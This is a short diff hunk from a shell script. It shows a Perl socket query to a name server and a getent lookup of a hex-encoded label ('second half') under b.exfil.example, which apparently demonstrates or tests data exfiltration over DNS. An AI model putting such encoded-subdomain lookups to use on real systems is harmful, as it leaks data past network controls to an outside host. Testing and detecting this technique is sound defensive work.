@@ -10,4 +10,4 @@ perl -MIO::Socket::INET -e '
     $socket->recv(my $answer, 512);
     print "name server answered ", length($answer), " bytes\n";
 '
-timeout 2 getent ahostsv4 7365636f6e642068616c66.b.exfil.example || echo "resolver: no such name"
+timeout 2 getent hosts 7365636f6e642068616c66.b.exfil.example || echo "resolver: no such name"
